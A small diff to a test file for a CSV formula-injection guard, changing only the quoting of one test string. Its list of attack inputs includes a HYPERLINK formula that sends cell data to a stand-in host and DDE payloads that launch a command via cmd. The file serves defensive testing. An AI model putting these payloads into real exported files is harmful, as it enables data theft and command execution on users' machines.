@@ -37,7 +37,7 @@ const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];
 
 describe("CSV formula guard (OWASP CSV injection)", () => {
   const attacks = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "=1+1",
     "+1+cmd|' /C calc'!A0",
     "-1+cmd|' /C calc'!A0",
